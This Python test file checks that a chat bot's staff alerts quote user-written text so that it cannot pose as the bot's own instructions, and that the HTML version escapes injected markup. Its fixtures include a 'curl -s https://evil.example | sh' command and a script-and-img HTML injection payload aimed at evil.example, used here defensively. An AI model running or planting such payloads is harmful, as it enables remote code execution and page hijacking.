"""What a person is called and writes stands in alerts as theirs: none of it looks like a line of ours. A5"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.model.alert import AlertNote
from bot.model.plain_text import TURNS_AROUND
from bot.model.translatable import ENGLISH
from bot.runtime.alerts.words import Wording, page, text
from bot.translations.chinese import CHINESE
from tests.conftest import NOW

FORGED = (
    "hello\n"
    "the bot is silent there; to have it answer again:  curl -s https://evil.example | sh\n"
    "\n"
    "■ 小美 waits for you\n"
    "contact: main:U2"
)


def wording(language: str = "en") -> Wording:
    return Wording("forest", {}, ENGLISH if language == "en" else CHINESE, ZoneInfo("Asia/Taipei"))


def told(said: str, name: str = "小美", language: str = "en") -> Sequence[str]:
    note = AlertNote("a1", "handed_over", NOW, "main", "main:U1", name, said)
    return text([note], wording(language)).splitlines()


def test_a_command_that_somebody_writes_is_not_ours() -> None:
    """It could stand where ours does, a whole alert behind it."""
    lines = told(FORGED)
    assert lines[:6] == ["■ 小美 waits for you", *(f"> {line}".rstrip() for line in FORGED.split("\n"))]
    assert [line for line in lines if "answer again" in line and not line.startswith(">")] == [
        "the bot is silent there; to have it answer again:  oaflow contact hand-back main:U1"
    ]


def test_who_answers_in_the_console_is_led_there_and_reads_no_command() -> None:
    note = AlertNote("a1", "handed_over", NOW, "main", "main:U1", "小美", "hello")
    console = replace(wording(), chats={"main": "https://bot.example/admin/chat"})
    lines = text([note], console).splitlines()
    assert "the bot is silent there until somebody hands back on that page" in lines
    assert any("https://bot.example/admin/chat" in line for line in lines)
    assert not any("oaflow " in line for line in lines)


def test_who_answers_in_line_hands_back_in_the_console() -> None:
    """K4: on its page, once our own address is known, and by no command."""
    note = AlertNote("a1", "handed_over", NOW, "main", "main:U1", "小美", "hello")
    lines = text([note], replace(wording(), hands_back="https://bot.example/admin/chat")).splitlines()
    assert "the bot is silent there; to have it answer again:  https://bot.example/admin/chat" in lines
    assert not any("to answer:" in line for line in lines)


@pytest.mark.parametrize("language", ["en", "zh-TW"])
@given(
    st.text(
        st.one_of(
            st.characters(codec="utf-8"), st.sampled_from("\n\r\x0b\x0c\x1c\x85\u2028\u2029\u202e\x1b\x9b■ >")
        )
    ),
    st.text(max_size=8),
)
def test_whatever_is_written_all_other_lines_are_ours(language: str, said: str, name: str) -> None:
    ours = [line for line in told("", name, language) if line]
    lines = told(said, name, language)
    assert [line for line in lines if line and not line.startswith(">")] == ours
    assert not (TURNS_AROUND | {"\x1b", "\x9b"}).intersection("".join(lines))


def test_where_staff_answer_in_the_console_its_address_is_told() -> None:
    """E3: the alert leads to the conversation; what somebody has written cannot lead elsewhere."""
    note = AlertNote("a1", "handed_over", NOW, "main", "main:U1", "小美", "請看")
    address = "https://bot.forest.example/admin/chat"
    lines = text([note], replace(wording(), chats={"main": address})).splitlines()
    assert f"to answer:  {address}" in lines
    assert not any("to answer" in line for line in told("請看"))


TROUBLE = (
    "the month's messages are nearly used up\nWhy it matters: <they> wait\nhttps://bot.example/admin/unsent"
)


class Seen(HTMLParser):
    """Its texts, its links, and all elements that there are."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.links: list[str | None] = []
        self.elements: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.links += [value for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_a_mail_as_a_page_says_the_same_and_loads_nothing() -> None:
    """K4: what a person writes is text there, too, and the page of a trouble is a button."""
    evil = '<script>x()</script><img src="https://evil.example/p.png"> https://evil.example'
    notes = [
        AlertNote("a1", "quota", NOW, "main", text=TROUBLE),
        AlertNote("a2", "handed_over", NOW, "main", "main:U1", evil, evil),
    ]
    seen = Seen(page(notes, wording()))
    assert seen.links == ["https://bot.example/admin/unsent"]
    assert not seen.elements & {"script", "img", "link", "iframe", "form"}
    assert evil in seen.texts
    assert "Why it matters: <they> wait" in seen.texts
    plain = [
        one for one in text(notes, wording()).splitlines() if one and not one.startswith((">", "■", "http"))
    ]
    assert set(plain) <= set(seen.texts)


def test_a_trouble_is_told_with_its_page_and_when_it_began() -> None:
    lines = text([AlertNote("a1", "quota", NOW, "main", text=TROUBLE)], wording()).splitlines()
    assert lines == [*TROUBLE.splitlines(), "when: 2026-11-20 12:00", "account: main (main)"]
